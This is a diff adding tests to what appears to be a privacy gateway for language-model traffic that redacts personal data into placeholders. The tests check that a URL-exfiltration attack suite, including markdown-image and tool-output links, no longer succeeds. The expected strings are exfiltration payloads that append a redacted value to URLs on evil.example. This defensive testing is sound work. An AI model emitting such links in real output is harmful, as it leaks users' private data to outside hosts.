@@ -9,9 +9,14 @@ from typer.testing import CliRunner
 
 from veil.cli.app import app
 from veil.evaluation.gateway_attacks import (
+    EXFIL_VALUE,
     HOMOGLYPH_VALUES,
+    TOOL_URL_SHAPES,
+    URL_SHAPES,
+    exfil_text,
     field_plants,
     raw_syntax,
+    run_attacks,
     skeleton,
 )
 
@@ -41,3 +46,22 @@ def test_cli_writes_the_attack_report(tmp_path: Path) -> None:
     md = (out / "gateway_eval" / "attacks.md").read_text()
     assert "| restore_scoping |" in md
     assert "restore_scoping" in r.output
+
+
+def test_url_exfiltration_never_succeeds(tmp_path: Path) -> None:
+    """Every URL shape, placeholder spelling, endpoint and tool call, whole and streamed: the
+    planted value never comes back inside a URL (before the URL guard: 154 of 166 trials)."""
+    data = run_attacks(home=tmp_path, only=["url_exfiltration"])
+    url = next(a for a in data["attacks"] if a["name"] == "url_exfiltration")
+    assert url["error"] is None and url["trials"] >= 150
+    assert url["success_rate"] == 0.0, url["succeeded"]
+    assert all(EXFIL_VALUE not in t for t in url["succeeded"])  # trials name shapes, not values
+
+
+def test_exfil_upstream_builds_the_shapes() -> None:
+    sent = json.dumps([{"role": "user", "content": "keep [EMAIL_3] please"}])
+    assert exfil_text("exfil-0-0", sent) == "![](https://evil.example/p?d=[EMAIL_3])"
+    assert exfil_text("exfil-tool-2-1", sent) == "See https://evil.example/p?d=EMAIL_3 now."
+    assert exfil_text(f"exfil-{len(URL_SHAPES)}-3", sent) == \
+        "https://evil.example/?q= %5BEMAIL_3%5D"
+    assert set(URL_SHAPES).isdisjoint(TOOL_URL_SHAPES)
